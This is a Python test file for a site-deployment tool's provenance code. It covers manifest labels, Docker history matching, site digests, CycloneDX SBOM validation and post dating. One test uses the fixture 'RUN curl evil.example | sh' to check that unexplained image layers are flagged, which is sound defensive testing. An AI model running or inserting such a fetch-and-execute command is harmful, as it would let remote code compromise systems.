import json
from datetime import UTC, datetime
from pathlib import Path

from cyclonedx.schema import SchemaVersion
from cyclonedx.validation.json import JsonStrictValidator

from deployer.build.dockerfile import render_runtime_dockerfile
from deployer.build.plugins import content_time
from deployer.build.sitefiles import BuiltFile, BuiltSite
from deployer.provenance.recipe import pair_recipe, stage_instructions
from deployer.provenance.sbom import (
    cyclonedx,
    files_from_labels,
    parse_manifest,
    parse_site_manifest,
    runtime_labels,
    site_digest,
)

MANIFEST = (
    "/usr/sbin/nginx\t" + "a" * 64 + "\tnginx\t1.22.1-9+deb12u11\n"
    "/lib/x86_64-linux-gnu/libc.so.6\t" + "b" * 64 + "\tlibc6\t2.36-9+deb12u14\n"
    "/etc/nginx/nginx.conf\t" + "c" * 64 + "\tsitedeploy\t-\n"
)

# What `docker history --no-trunc` says of a BuildKit-built sitedeploy image, oldest first.
HISTORY = [
    ("COPY /rootfs/ / # buildkit", 9_800_000),
    ("USER 101:101", 0),
    ("EXPOSE map[8080/tcp:{}]", 0),
    ("STOPSIGNAL SIGQUIT", 0),
    (
        'HEALTHCHECK &{["CMD" "/usr/local/bin/healthcheck" "8080" "/.sitedeploy/health"] "5s" "3s" "5s" \'\\x03\'}',
        0,
    ),
    ('ENTRYPOINT ["/usr/sbin/nginx" "-e" "stderr" "-g" "daemon off;"]', 0),
    ("COPY /srv/errors /srv/errors # buildkit", 4_000),
    ("COPY /srv/www /srv/www # buildkit", 120_000),
]
SITE_STAGE = """FROM builder AS pack
RUN true
FROM sitedeploy/nginx-runtime:abc AS nginx
COPY --from=pack /srv/errors /srv/errors
COPY --from=pack /srv/www /srv/www
"""


def test_manifest_round_trips_through_labels() -> None:
    files = parse_manifest(MANIFEST)
    labels = runtime_labels(files)
    assert labels["io.sitedeploy.sbom.packages"] == "libc6=2.36-9+deb12u14 nginx=1.22.1-9+deb12u11"
    assert files_from_labels(labels) == files


def test_history_pairs_with_the_rendered_dockerfiles() -> None:
    runtime = render_runtime_dockerfile(nginx_base="sitedeploy/debian:bookworm")
    instructions = stage_instructions(runtime, "runtime") + stage_instructions(SITE_STAGE, "nginx")
    assert instructions[0] == "COPY --from=nginx-build /rootfs/ /"
    assert instructions[-1] == "COPY --from=pack /srv/www /srv/www"
    recipe = pair_recipe(instructions, HISTORY)
    assert [line.matches for line in recipe] == [True] * len(HISTORY)
    assert recipe[4].instruction and recipe[4].instruction.startswith("HEALTHCHECK --interval=5s")


def test_an_entry_the_recipe_does_not_explain_is_flagged() -> None:
    recipe = pair_recipe(
        ["USER 101:101"], [("RUN curl evil.example | sh", 10), ("USER 101:101", 0)]
    )
    assert [(line.matches, line.instruction) for line in recipe] == [
        (False, None),
        (True, "USER 101:101"),
    ]


def test_site_digest_depends_on_paths_and_bytes_only(tmp_path: Path) -> None:
    one = BuiltSite(tmp_path, (BuiltFile("a.html", 3, "1" * 64), BuiltFile("b.css", 4, "2" * 64)))
    same = BuiltSite(
        tmp_path / "x", (BuiltFile("a.html", 3, "1" * 64), BuiltFile("b.css", 4, "2" * 64))
    )
    other = BuiltSite(tmp_path, (BuiltFile("a.html", 3, "9" * 64), BuiltFile("b.css", 4, "2" * 64)))
    assert site_digest(one.files) == site_digest(same.files) != site_digest(other.files)
    assert site_digest(reversed(one.files)) == site_digest(one.files)  # order does not matter


def test_site_manifest_rows() -> None:
    text = "a" * 64 + "\t12\tindex.html\n" + "b" * 64 + "\t3\tdir/with\ttab.txt\n"
    files = parse_site_manifest(text)
    assert files == [
        BuiltFile("index.html", 12, "a" * 64),
        BuiltFile("dir/with\ttab.txt", 3, "b" * 64),
    ]


def test_cyclonedx_document_is_valid_and_names_every_package() -> None:
    labels = {
        **runtime_labels(parse_manifest(MANIFEST)),
        "io.sitedeploy.site.files": "11",
        "io.sitedeploy.site.bytes": "78700",
        "io.sitedeploy.site.sha256": "d" * 64,
        "io.sitedeploy.content-hash": "e" * 64,
        "org.opencontainers.image.title": "blog",
    }
    text = cyclonedx("sitedeploy/blog:latest", "sha256:" + "f" * 64, labels, "bookworm")
    assert JsonStrictValidator(SchemaVersion.V1_5).validate_str(text) is None
    document = json.loads(text)
    components = {c["name"]: c for c in document["components"]}
    assert (
        components["nginx"]["purl"]
        == "pkg:deb/debian/nginx@1.22.1-9%2Bdeb12u11?distro=debian-bookworm"
    )
    assert components["libc6"]["evidence"]["occurrences"] == [
        {"location": "/lib/x86_64-linux-gnu/libc.so.6"}
    ]
    assert components["site blog"]["hashes"] == [{"alg": "SHA-256", "content": "d" * 64}]


def test_content_time_publishes_every_post_and_no_future_one(tmp_path: Path) -> None:
    now = datetime(2026, 11, 28, 12, 0, tzinfo=UTC)
    assert content_time(tmp_path, now) == "2000-01-01 23:59:59 -1200"
    (tmp_path / "_posts" / "travel").mkdir(parents=True)
    (tmp_path / "_posts" / "2024-05-01-a.md").write_text("---\ntitle: a\n---\n")
    (tmp_path / "_posts" / "travel" / "2026-02-14-b.md").write_text(
        "---\ndate: 2026-02-15 18:00\n---\n"
    )
    (tmp_path / "_posts" / "notes.md").write_text("no date")
    assert content_time(tmp_path, now) == "2026-02-15 23:59:59 -1200"
    (tmp_path / "_posts" / "2027-01-01-scheduled.md").write_text("---\n---\n")
    assert content_time(tmp_path, now) == "2026-11-28 12:00:00 +0000"
